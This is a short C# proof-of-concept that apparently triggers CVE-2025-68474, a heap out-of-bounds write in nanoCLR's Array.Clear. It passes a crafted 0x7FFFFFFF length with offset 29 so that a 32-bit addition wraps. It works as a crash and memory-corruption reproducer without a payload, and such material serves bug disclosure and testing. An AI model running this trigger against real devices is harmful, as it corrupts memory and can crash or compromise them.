// The kind of CVE-2025-68474 (CWE-787): room for the declared header of 20 bytes, and 29 are written before the payload.
// nanoCLR's Array.Clear adds 29 to the payload's length in 32 bits: a length that wraps runs over the heap.
using System;

public class Program
{
    private static readonly byte[] s_command = { 0xFF, 0xFF, 0xFF, 0x7F };

    public static void Main()
    {
        byte[] message = new byte[20 + 16];
        int length = s_command[0] | (s_command[1] << 8) | (s_command[2] << 16) | (s_command[3] << 24);
        Array.Clear(message, 29, length);
        Console.WriteLine("sent");
    }
}
